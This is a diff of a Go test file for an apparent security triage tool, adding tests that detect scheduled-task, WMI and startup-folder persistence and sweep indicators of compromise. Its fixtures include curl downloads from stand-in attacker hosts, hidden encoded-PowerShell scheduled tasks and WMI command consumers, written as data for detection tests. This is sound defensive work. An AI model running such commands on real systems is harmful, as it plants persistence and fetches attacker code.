@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/json"
 	"fmt"
 	"slices"
 	"strings"
@@ -315,7 +316,7 @@ func TestIOCFindings(t *testing.T) {
 	}
 	procs := flatten([]*pdk.ProcessNode{node("1", "curl.exe", "", "curl https://evil.example.org/x")})
 	iocs := []string{"203.0.113.66", "example-c2.net", strings.Repeat("ab", 32), "example.org", "198.51.100.1"}
-	fs := iocFindings(iocs, c, procs)
+	fs := iocFindings(iocs, c, procs, nil)
 	got := map[string]string{}
 	for _, f := range fs {
 		got[f.Observables[0].Value] = f.Observables[0].Type + fmt.Sprint(len(f.Evidence))
@@ -393,6 +394,9 @@ type fakeSystems struct {
 	byDest   map[string][]pdk.Event // connections by destination, for SearchFields
 	fetches  []string
 	counts   []pdk.CountRequest
+	persist  []pdk.Event // answers of SearchFields by event.code
+	text     []pdk.Event // answers of Search, matched as substrings
+	searches []string
 }
 
 func (f *fakeSystems) Grant() (*pdk.Grant, error) { return &f.grant, nil }
@@ -423,8 +427,27 @@ func (f *fakeSystems) Collect(req pdk.CollectRequest) (*pdk.Collection, error) {
 	f.collects = append(f.collects, req)
 	return f.col, nil
 }
+func (f *fakeSystems) Search(req pdk.SearchRequest) (*pdk.SearchResult, error) {
+	f.searches = append(f.searches, req.Query)
+	var out []pdk.Event
+	for _, e := range f.text {
+		if strings.Contains(strings.ToLower(fmt.Sprint(map[string]any(e))), strings.Trim(req.Query, `"`)) {
+			out = append(out, e)
+		}
+	}
+	return &pdk.SearchResult{Events: out}, nil
+}
 func (f *fakeSystems) SearchFields(req pdk.FieldSearchRequest) (*pdk.SearchResult, error) {
 	for _, c := range req.Fields {
+		if c.Field == "event.code" {
+			var out []pdk.Event
+			for _, e := range f.persist {
+				if e["event.code"] == c.Value {
+					out = append(out, e)
+				}
+			}
+			return &pdk.SearchResult{Events: out}, nil
+		}
 		if c.Field == "destination.ip" {
 			f.fetches = append(f.fetches, fmt.Sprint(c.Value))
 			return &pdk.SearchResult{Events: f.byDest[fmt.Sprint(c.Value)]}, nil
@@ -560,6 +583,31 @@ func TestTriageQuietHost(t *testing.T) {
 	}
 }
 
+func TestTriageNothingFound(t *testing.T) {
+	// A host with no telemetry at all in the window, and an asset without
+	// addresses or tags: every list of the output is [], never null.
+	sys := &fakeSystems{col: &pdk.Collection{}, assets: map[string]*pdk.Asset{"acme/acme-ws-002": {Tenant: "acme", Name: "ACME-WS-002"}}}
+	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-WS-002"}, DefaultConfig(), t0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := json.Marshal(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{`"findings":[]`, `"sweeps":[]`, `"notes":[]`, `"ips":[]`, `"tags":[]`} {
+		if !strings.Contains(string(b), want) {
+			t.Errorf("output lacks %s: %s", want, b)
+		}
+	}
+	if strings.Contains(string(b), "null") {
+		t.Errorf("output holds null: %s", b)
+	}
+	if !strings.Contains(out.Summary, "**No findings.**") {
+		t.Errorf("summary:\n%s", out.Summary)
+	}
+}
+
 func TestTriageBusyHostBeacon(t *testing.T) {
 	// The collection is full of chatter to one address; the beacon shows
 	// only when the host's destinations are counted over the window.
@@ -590,5 +638,199 @@ func TestTriageBusyHostBeacon(t *testing.T) {
 	}
 	if len(out.Notes) == 0 || !strings.Contains(strings.Join(out.Notes, "\n"), "whose timing was read") {
 		t.Errorf("notes = %q", out.Notes)
+	}
+}
+
+func TestTaskProcessFindings(t *testing.T) {
+	tests := []struct {
+		name, proc, parent, cmd string
+		want                    string // severity or ""
+	}{
+		{"SchtasksPowerShell", "schtasks.exe", "powershell.exe", `schtasks.exe /create /sc onlogon /tn "OneDrive Sync" /tr "powershell -w hidden -File C:\Users\Public\s.ps1"`, "high"},
+		{"SchtasksFromWord", "schtasks.exe", "WINWORD.EXE", `schtasks /Create /SC DAILY /TN upd /TR C:\ProgramData\upd.exe`, "high"},
+		{"SchtasksPlain", "schtasks.exe", "cmd.exe", `schtasks /create /tn Backup /tr "C:\Program Files\Backup\agent.exe" /sc daily`, "medium"},
+		{"RegisterScheduledTask", "powershell.exe", "explorer.exe", `powershell Register-ScheduledTask -TaskName Inventory -Action $a`, "medium"},
+		{"SchtasksQuery", "schtasks.exe", "cmd.exe", `schtasks /query /fo LIST`, ""},
+		{"SchtasksRun", "schtasks.exe", "cmd.exe", `schtasks /run /tn "\Microsoft\Windows\Defrag\ScheduledDefrag"`, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := taskProcessFindings(flatten([]*pdk.ProcessNode{node("1", tt.proc, tt.parent, tt.cmd)}))
+			got := ""
+			if len(fs) == 1 && fs[0].Rule == RuleScheduledTask {
+				got = fs[0].Severity
+			}
+			if got != tt.want || len(fs) > 1 {
+				t.Errorf("findings = %+v, want %q", fs, tt.want)
+			}
+		})
+	}
+}
+
+func TestPersistenceFindings(t *testing.T) {
+	taskXML := func(cmd, args string) string {
+		return `<?xml version="1.0" encoding="UTF-16"?><Task><Actions Context="Author"><Exec><Command>` + cmd + `</Command><Arguments>` + args + `</Arguments></Exec></Actions></Task>`
+	}
+	startup := `C:\Users\hsato\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\`
+	tests := []struct {
+		name    string
+		ev      pdk.Event
+		file    bool   // a file change of the collection, not a searched event
+		want    string // rule/severity or ""
+		whatHas string
+	}{
+		{"Task4698Encoded", pdk.Event{"event.code": "4698", "TaskName": `\OneDriveSync`, "SubjectUserName": "hsato",
+			"TaskContent": taskXML("powershell.exe", "-w hidden -enc JABjAGwA")}, false, "scheduled-task-persistence/high", `\OneDriveSync created by hsato to run`},
+		{"Task4698Escaped", pdk.Event{"event.code": "4698", "winlog.event_data.TaskName": `\Updater`,
+			"winlog.event_data.TaskContent": "&lt;Task&gt;&lt;Exec&gt;&lt;Command&gt;C:\\Users\\Public\\u.exe&lt;/Command&gt;&lt;/Exec&gt;&lt;/Task&gt;"}, false, "scheduled-task-persistence/high", `u.exe`},
+		{"Task4698Windows", pdk.Event{"event.code": "4698", "TaskName": `\Microsoft\Windows\UpdateOrchestrator\Schedule Scan`, "SubjectUserName": "SYSTEM",
+			"TaskContent": taskXML(`C:\Windows\system32\usoclient.exe`, "StartScan")}, false, "scheduled-task-persistence/low", "usoclient.exe"},
+		{"Task4698Vendor", pdk.Event{"event.code": "4698", "TaskName": `\Backup Agent`, "TaskContent": taskXML(`"C:\Program Files\Backup\agent.exe"`, "")}, false, "scheduled-task-persistence/medium", ""},
+		{"WMIFilter", pdk.Event{"event.code": "19", "Operation": "Created", "Name": "Updater", "User": `ACME\hsato`,
+			"Query": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}, false, "wmi-persistence/medium", "WMI event filter Updater created"},
+		{"WMIConsumer", pdk.Event{"event.code": "20", "Operation": "Created", "Name": "Updater", "Type": "Command Line",
+			"Destination": `powershell.exe -nop -enc JABjAGwA`}, false, "wmi-persistence/high", "(Command Line) created to run"},
+		{"WMIBinding", pdk.Event{"event.code": "21", "Operation": "Created", "Consumer": `CommandLineEventConsumer.Name="Updater"`,
+			"Filter": `__EventFilter.Name="Updater"`}, false, "wmi-persistence/high", `__EventFilter.Name="Updater" → CommandLineEventConsumer`},
+		{"WMIDeleted", pdk.Event{"event.code": "20", "Operation": "Deleted", "Name": "Updater"}, false, "", ""},
+		{"OtherEvent", pdk.Event{"event.code": "4624"}, false, "", ""},
+		{"StartupScript", pdk.Event{"event.code": "11", "file.path": startup + "update.vbs", "process.name": "explorer.exe"}, true, "startup-folder-persistence/high", "update.vbs created by explorer.exe"},
+		{"StartupShortcutByPowerShell", pdk.Event{"event.code": "11", "TargetFilename": startup + "OneDrive.lnk", "Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, true, "startup-folder-persistence/high", ""},
+		{"StartupShortcut", pdk.Event{"event.code": "11", "file.path": `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\Zoom.lnk`, "process.name": "msiexec.exe"}, true, "startup-folder-persistence/medium", ""},
+		{"StartupDeleted", pdk.Event{"event.code": "23", "event.type": "deletion", "file.path": startup + "update.vbs"}, true, "", ""},
+		{"StartMenuIsNotStartup", pdk.Event{"event.code": "11", "file.path": `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Zoom\Zoom.lnk`}, true, "", ""},
+		{"TaskFileByPowerShell", pdk.Event{"event.code": "11", "file.path": `C:\Windows\System32\Tasks\OneDriveSync`, "process.name": "powershell.exe"}, true, "scheduled-task-persistence/high", "not by the Task Scheduler service"},
+		{"TaskFileByScheduler", pdk.Event{"event.code": "11", "file.path": `C:\Windows\System32\Tasks\Backup Agent`, "process.name": "svchost.exe"}, true, "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var fs []Finding
+			if tt.file {
+				fs = persistenceFindings(nil, []pdk.Event{tt.ev})
+			} else {
+				fs = persistenceFindings([]pdk.Event{tt.ev}, nil)
+			}
+			got := ""
+			if len(fs) > 0 {
+				got = fs[0].Rule + "/" + fs[0].Severity
+				if len(fs[0].Evidence) != 1 {
+					t.Errorf("evidence = %q", fs[0].Evidence)
+				}
+			}
+			if got != tt.want || len(fs) > 1 {
+				t.Fatalf("findings = %+v, want %s", fs, tt.want)
+			}
+			if tt.whatHas != "" && !strings.Contains(fs[0].What, tt.whatHas) {
+				t.Errorf("what = %q, want it to hold %q", fs[0].What, tt.whatHas)
+			}
+		})
+	}
+}
+
+func TestTriagePersistence(t *testing.T) {
+	// 4698 and Sysmon 19–21 are searched for by code; events of another
+	// host sharing the name's prefix are dropped.
+	sys := &fakeSystems{col: &pdk.Collection{Files: []pdk.Event{{"_id": "f1", "event.code": "11", "host.name": "ACME-WS-017",
+		"file.path": `C:\Users\hsato\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd.bat`, "process.name": "powershell.exe"}}},
+		persist: []pdk.Event{
+			{"_id": "e1", "event.code": "4698", "host.name": "ACME-WS-017.acme.local", "TaskName": `\Upd`, "TaskContent": `<Command>cmd.exe /c C:\Users\Public\u.bat</Command>`},
+			{"_id": "e2", "event.code": "21", "host.name": "acme-ws-017", "Operation": "Created", "Consumer": "c", "Filter": "f"},
+			{"_id": "e3", "event.code": "20", "host.name": "ACME-WS-0170", "Operation": "Created", "Name": "other host", "Destination": "x"},
+		}}
+	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-WS-017"}, DefaultConfig(), t0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rules []string
+	for _, f := range out.Findings {
+		rules = append(rules, f.Rule+"/"+f.Severity)
+		if strings.Contains(f.What, "other host") {
+			t.Errorf("another host's event flagged: %s", f.What)
+		}
+	}
+	want := []string{"scheduled-task-persistence/high", "startup-folder-persistence/high", "wmi-persistence/high"}
+	if !slices.Equal(rules, want) {
+		t.Errorf("findings = %q, want %q", rules, want)
+	}
+	if out.Counts["persistence"] != 2 {
+		t.Errorf("counts = %v", out.Counts)
+	}
+}
+
+func TestSweep(t *testing.T) {
+	c2, hash := "203.0.113.66", strings.Repeat("9f", 32)
+	ticket := &pdk.Ticket{ID: "T-1", Tenant: "acme", Observables: []pdk.Observable{
+		{Type: pdk.ObservableHost, Value: "ACME-WS-017"}, {Type: pdk.ObservableIP, Value: "10.20.1.17"},
+		{Type: pdk.ObservableIP, Value: c2}, {Type: pdk.ObservableDomain, Value: "Update.Example.NET"}}}
+	sws := sweepIndicators([]string{c2, hash}, ticket)
+	var got []string
+	for _, sw := range sws {
+		got = append(got, sw.Source+":"+sw.Type+":"+sw.Query)
+	}
+	// The private address and the host are not swept; the C2 is swept once.
+	if want := []string{`config:ip:"203.0.113.66"`, `config:hash:"` + hash + `"`, `ticket:domain:"update.example.net"`}; !slices.Equal(got, want) {
+		t.Fatalf("indicators = %q, want %q", got, want)
+	}
+
+	sys := &fakeSystems{text: []pdk.Event{
+		{"_id": "a", "host.name": "ACME-WS-017", "destination.ip": c2},
+		{"_id": "b", "host.name": "ACME-WS-017", "destination.ip": c2},
+		{"_id": "c", "host.name": "ACME-WS-040", "destination.ip": c2},
+		{"_id": "d", "host.name": "ACME-WS-041", "destination.ip": "203.0.113.666"}, // not the address
+		{"_id": "e", "host.name": "ACME-WS-042", "url.domain": "cdn.update.example.net"},
+		{"_id": "f", "host.name": "ACME-WS-017", "process.hash.sha256": hash},
+		// Proxy logs: the client's address, the host's or another's.
+		{"_id": "g", "source.ip": "10.20.1.17", "url.full": "https://" + c2 + "/a"},
+		{"_id": "h", "source.ip": "10.20.1.40", "url.full": "https://" + c2 + "/a"},
+		{"_id": "i", "message": "denied " + c2},
+	}}
+	sws = sweep(sys, "acme", "ACME-WS-017", []string{"10.20.1.17"}, sws, t0, t0.Add(time.Hour), func(string, ...any) {})
+	if len(sys.searches) != 3 {
+		t.Errorf("searches = %q", sys.searches)
+	}
+	if sws[0].Events != 6 || fmt.Sprint(sws[0].Hosts) != "[{ACME-WS-017 3} {(no host or source address) 1} {10.20.1.40 1} {ACME-WS-040 1}]" {
+		t.Errorf("C2 sweep = %+v", sws[0])
+	}
+	fs := sweepFindings(sws, "ACME-WS-017")
+	var rules []string
+	for _, f := range fs {
+		rules = append(rules, f.Rule+"/"+f.Severity+": "+f.What)
+	}
+	want := []string{
+		"ioc-match/high: Known indicator 203.0.113.66 (ip, config iocs) also seen on other hosts: 2 events",
+		"indicator-elsewhere/medium: The ticket's indicator update.example.net (domain) also seen on other hosts: 1 events",
+	}
+	if !slices.Equal(rules, want) {
+		t.Errorf("findings = %q, want %q", rules, want)
+	}
+	if !strings.Contains(fs[0].Evidence[0], "ACME-WS-040 (1)") || strings.Contains(fs[0].Evidence[0], "ACME-WS-017") || strings.Contains(fs[0].Evidence[0], "no host") {
+		t.Errorf("evidence = %q", fs[0].Evidence)
+	}
+	// Triaged from another host, a known indicator it never saw is no
+	// finding about it.
+	if fs := sweepFindings(sweep(sys, "acme", "ACME-WS-099", nil, sweepIndicators([]string{c2}, nil), t0, t0.Add(time.Hour), func(string, ...any) {}), "ACME-WS-099"); len(fs) != 0 {
+		t.Errorf("findings on a host that never saw the indicator: %+v", fs)
+	}
+	// The host's own events of the config's indicators feed ioc-match when
+	// the collection lacks them.
+	col := &pdk.Collection{Network: []pdk.Event{{"_id": "a"}}}
+	var ids []string
+	for _, e := range sweptOnHost(sws, col) {
+		ids = append(ids, e.ID())
+	}
+	if !slices.Equal(ids, []string{"b", "g", "f"}) {
+		t.Errorf("swept events on the host = %q", ids)
+	}
+	// A hash only the process event holds (the tree has none) is found
+	// through the sweep; an event the tree and the sweep both hold counts
+	// once.
+	procs := flatten([]*pdk.ProcessNode{{PID: "7", Name: "curl.exe", CommandLine: "curl http://" + c2 + "/x", EventID: "p"}})
+	extra := append(sweptOnHost(sws, col), pdk.Event{"_id": "p", "process.command_line": "curl http://" + c2 + "/x"})
+	got = nil
+	for _, f := range iocFindings([]string{c2, hash}, col, procs, extra) {
+		got = append(got, f.What)
+	}
+	if want := []string{"Known indicator 203.0.113.66 (ip, config iocs) seen 3 times", "Known indicator " + hash + " (hash, config iocs) seen 1 times"}; !slices.Equal(got, want) {
+		t.Errorf("ioc findings = %q, want %q", got, want)
 	}
 }
